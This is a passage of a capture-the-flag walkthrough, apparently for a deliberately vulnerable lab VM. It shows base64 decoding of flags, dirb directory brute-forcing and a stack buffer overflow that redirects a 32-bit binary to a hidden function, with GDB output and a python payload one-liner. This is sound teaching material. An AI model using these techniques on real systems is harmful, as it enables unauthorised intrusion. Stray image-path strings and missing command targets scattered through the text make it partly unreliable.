270 0x10E Unix path: /”> <rdf:Description rdf:about=””
xmlns:xmp=”” xmlns:xmpMM=”http
36994 0x9082 Zip archive data, at least v2.0 to extract, compressed size: 121,
uncompressed size: 125, name: feathers.txt
37267 0x9193 End of Zip archive

We succeeded in extracting a zip file out of it. Let’s see what does it have.

root@Sierra ~ % ls
Desktop Downloads libreoffice Pictures _pileoffeathers.jpg.extracted Public Sync Videos
Documents GNS3 Music pileoffeathers.jpg pt sketchbook Templates‘VirtualBox VMs’
root@Sierra ~ % cd _pileoffeathers.jpg.extracted
root@Sierra ~/_pileoffeathers.jpg.extracted % ls feathers.txt
root@Sierra ~/_pileoffeathers.jpg.extracted % cat feathers.txt

Do you see the “==” at the end of the text? That’s the padding usedin base64 ciphers. This has to be it. Let’s try.

root@Sierra ~/_pileoffeathers.jpg.extracted % echo “ZmxhZzN7OWFkM2Y2MmRiN2I5MWMyOGI2OD
Q==” | base64 --decode
flag3{9ad3f62db7b91c28b68137000394639f} -- Cross the chasm at /amagicbridgeappearsatthechasm

Bingo! Now we have 2 more leads. A flag, which I assume we need to decrypt the same way we have been doing the others and the directory /amagicbridgeappearsatthechasm.

It should be safe to assume that this is a web directory as we do not have an SSH connection or any sort of control over the file directory structure of the target system. Let’s find out.

Flag 4 : Etched Into The Surface – Buffer OverflowVisiting port 80 reveals the next part of the story.

Walking Towards Flag 4

The text says:

You cautiously make your wayacross chasm.

You are standing on a snow covered plateau, surrounded by shear cliffs of ice and stone.

The cave before you is protected by some sort of spell cast by the necromancer.

You reach out to touch the gaseous blue haze, and can feel life being drawn from your soul the closer you get.

Hastily you take a few steps back away from the cave entrance.

There must be a magical item that could protect you from the necromancer’s spell.

Looks like we need to find something that’d protect us from this magic spell. I tried extracting data from this pic too but it didn’t work. So I went to decrypt the text we got in flag 3. The hash decrypted to 345465869.

But that doesn’t lead us to anything!! What we have now is decrypted flag2 and flag3 but none of them makes any sense. We cannot use these numbers to our advantage in any way. Seems like a dead end, doesn’t it?

Thanks to Georgia Weidman, I got to know about this tool named dirb from one of her Advanced Penetration Testing course I attended. This tool helps you to bruteforce an active web server to reveal the hidden web directories. If we’re lucky we might find some place to hop on. Moreover, there’s a tool but the name dirBuster which does the same task but has an interactable GUI but I’m just going to stick to dirb for now.

Lucky or not, there’s only one way to find out:


Dirb! Brute force attack. Now!

root@Sierra ~/_pileoffeathers.jpg.extracted % dirb /usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-small.txt
DIRB v2.22
By The Dark Raver
START_TIME: Sun Nov 5 16:06:38 2017
WORDLIST_FILES: /usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-small.txt
---- Scanning URL: ----
---- Entering directory: ----
END_TIME: Sun Nov 5 16:21:23 2017
DOWNLOADED: 163256 -- FOUND: 0

Great, We found /pics. It seems there’s nothing inside /pics that matches the entries of ourdictionary. We can try visiting it manually.
Now use that attack on /amagicbridgeappearsatthechasm.

root@Sierra ~/_pileoffeathers.jpg.extracted % dirb /usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-small.txt
DIRB v2.22
By The Dark Raver
START_TIME: Sun Nov 5 16:31:31 2017
WORDLIST_FILES: /usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-small.txt
---- Scanning URL: ----
+ (CODE:200|SIZE:9676)
END_TIME: Sun Nov 5 16:39:40 2017

We found a talisman. Judging by the name it must be interesting. When I tried visiting /pics I got a 403 – Access Forbidden. So let’s head for talisman and try to find what it really is.

File Download

There’s a file for us to download. Since the file doesn’t have any extension I wonder what type of file it is.root@Sierra ~/_pileoffeathers.jpg.extracted% file talisman
talisman: ELF 32-bit LSB executable, Intel 80386, version 1 (SYSV), dynamically linked,
interpreter /lib/, for GNU/Linux 2.6.32, BuildID[sha1]=
2b131df906087adf163f8cba1967b3d2766e639d, not stripped

Well! Well! ELF stands for Executable and Linkable Format and LSB stands for Standard Linux Base. So it’s a 32-bit Linux executable. Guess I shouldn’t have any problem executing it. Let’s see what comes up.

root@Sierra ~/_pileoffeathers.jpg.extracted % chmod +x ./talisman
root@Sierra ~/_pileoffeathers.jpg.extracted % ./talisman
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman? No
Nothing happens.
root@Sierra ~/_pileoffeathers.jpg.extracted % ./talisman
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman? Yes
Nothing happens.
root@Sierra ~/_pileoffeathers.jpg.extracted %./talisman
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman? wl/anfalw/enewlg
Nothing happens.

No matter what input you provide, it always returns the same message. But, if you think about it, what comes to your mind on putting an executable, an unrestricted user input and a cyber-security challenge together?

You’re probably right. A Stack-Smash Buffer Overflow attack. But, we need to figure out if it’s even worth it or not. GDB might come in handy here.

root@Sierra ~/_pileoffeathers.jpg.extracted % gdb -q ./talisman
Reading symbols from ./talisman…(no debugging symbols found)…done.
(gdb) break main
Breakpoint 1 at 0x8048a21
(gdb) run
Starting program:/root/_pileoffeathers.jpg.extracted/talisman
Breakpoint 1, 0x08048a21 in main ()
(gdb) info functions
All defined functions:
Non-debugging symbols:
0x080482d0 _init
0x08048310 printf@plt
0x08048320 __libc_start_main@plt
0x08048330 __isoc99_scanf@plt
0x08048350 _start
0x08048380 __x86.get_pc_thunk.bx
0x08048390 deregister_tm_clones
0x080483c0 register_tm_clones
0x08048400 __do_global_dtors_aux
0x08048420 frame_dummy
0x0804844b unhide
0x0804849d hide
0x080484f4 myPrintf
0x08048529 wearTalisman
0x08048a13 main
0x08048a37 chantToBreakSpell
0x08049530 __libc_csu_init
0x08049590 __libc_csu_fini
0x08049594 _fini
0xf7fd9810 __libc_memalign@plt
0xf7fd9820 malloc@plt
0xf7fd9830 calloc@plt
0xf7fd9840 realloc@plt
0xf7fe22a0 _dl_rtld_di_serinfo
0xf7fe9450 _dl_debug_state0xf7feab50 _dl_mcount
0xf7feb4d0 _dl_tls_setup
0xf7feb580 _dl_get_tls_static_info
0xf7feb640 _dl_allocate_tls_init
0xf7feb8f0 _dl_allocate_tls
0xf7feb920 _dl_deallocate_tls
0xf7febc40 ___tls_get_addr
0xf7febc80 __tls_get_addr
0xf7fec050 _dl_make_stack_executable
0xf7fec5a0 _dl_find_dso_for_object
0xf7fef880 __get_cpu_features

There’s a huge list of functions but we don’t need to dig that deeper. A few lines from the beginning, we can see that there are function by the name wearTalisman and chantToBreakSpell. It’s obvious by their names that wearTalisman is the one taking the input and chantToBreakSpell could lead us to our next clue. So, we now need to make our program to jump to address 0x08048a37 but before we do so we need to find the exact size of the available input buffer. The explanation to this attack is beyond the scope of this article as it might take an article or two of its own. I might write about it some day in future though.

That being said, let’s see what the size of the buffer is. We can do it the difficult way byrunning the program multiple times and trying different inputs on each run or we can do it the easy way. I made a nasty little python script to do this dirty job for us. You can view the source of this python script on MyGithub Repository. I’m going to use it to figure out the input buffer size.

root@Sierra ~/_pileoffeathers.jpg.extracted % python3--start 10 --step 5 --end
1000 ./talisman
Inside crashTesting…
Trying BOF with input size : 10
Executing command:
echo PPPPPPPPPP | ‘./talisman’
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman?
Nothing happens.
Trying BOF with input size : 15
Executing command:
echo PPPPPPPPPPPPPPP | ‘./talisman’
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman?
Nothing happens.
Trying BOF with input size : 20
Executing command:
echo PPPPPPPPPPPPPPPPPPPP | ‘./talisman’
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman?
Nothing happens.
Trying BOF with input size : 25
Executing command:
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman?
Nothing happens.
Trying BOF with input size : 30
Executing command:
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman?
Nothing happens.
Trying BOF with input size : 35
Executing command:
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman?
Nothing happens.
Segmentation fault
Program’s Stack Overflowed.
Buffer Size < 35

Aha! A Segmentation fault. The stack smashed at 35. So, this gives us estimateidea of how long we want our input to be in order to commit our evil deeds. It’s somewhere between 30 and 35. Now let’s open GDB again and see what’s the exact length of input that we need to provide before we could overwrite the return address.

root@Sierra ~/_pileoffeathers.jpg.extracted % gdb -q ./talisman
Reading symbols from ./talisman…(no debugging symbols found)…done.
(gdb) run
Starting program: /root/_pileoffeathers.jpg.extracted/talisman
You have found a talisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Nothing happens.
Program received signal SIGSEGV, Segmentation fault.
0x00414243 in ?? ()

I provided an input of 30 Ps followed by “EDCBA” and the program crashed(as it did earlier with out python script on reaching the input length of 35). But thepoint to notice is the very last line:

Program received signal SIGSEGV, Segmentation fault.
0x00414243 in ?? ()

The program crashed because it tried to return to address 00414243. This address is a hexadecimal representation. Now if we convert 41, 42 and 43 from the address to ASCII characters, we’d find that they are in fact ‘A’, ‘B’ and ‘C’ from our input. So the exact length we need to provide before we could overwrite the return address is 32 (30 Ps, ‘E’ and ‘D’ of our input). Now, instead of overwriting the address with “ABCDE” lets overwrite it with the address of the function that we want out program to execute. Yes! you got it right. It’s the function by the name chantToBreakSpell that we saw earlier and it’s address was 0x08048a37. Let’s carefully craft an input that’d make the program to execute the function of our wish and break the Necromancer’s spell.

root@Sierra ~/_pileoffeathers.jpg.extracted % python -c “print ‘P’*32 + ‘\x37\x8a\x04\x08′” | ./talisman
You have found atalisman.
The talisman is cold to the touch, and has no words or symbols on it’s surface.
Do you want to wear the talisman?
Nothing happens.
You fall to your knees.. weak and weary.
Looking up you can see the spell is still protecting the cave entrance.
The talisman is now almost too hot to touch!
Turning it over you see words now etched into the surface:
Chant these words at u31337
zsh: done python -c “print ‘P’*32 + ‘\x37\x8a\x04\x08′” |
zsh: segmentation fault ./talisman

Yoohoo!!! It worked. But the spell didn’t break. You think the chant we have might break it? Decrypting the text results in the string blackmagic. We need to chant it over UDP port 31337.

Flag 5 : Etched In The Blood

Let’s chant the spell and see what happens.

root@Sierra ~/_pileoffeathers.jpg.extracted % netcat -u 31337
As you chant the words, a hissing sound echoes from the ice walls.
The blue aura disappears from the cave entrance.
You enter the cave and see that it is dimly lit by torches; shadows dancing against the rock
wall as you descend deeper and deeper into the mountain.
You hear high pitched screeches coming from within the cave, and you start to feel a gentle
The screeches are getting closer, and with it the breeze begins to turn into an ice cold
Suddenly, you are attacked by a swarm of bats!
You aimlessly thrash at the air in front of you!
The bats continue their relentless attack, until…. silence.
Looking around you see no sign of any bats, and no indication of the struggle which had just
Looking towards one of the torches, you see something on the cave wall.
You walk closer, and notice a pile of mutilated bats lying on the cave floor. Above them,
a word etched in blood on the wall.Flag 6 : Face off with death

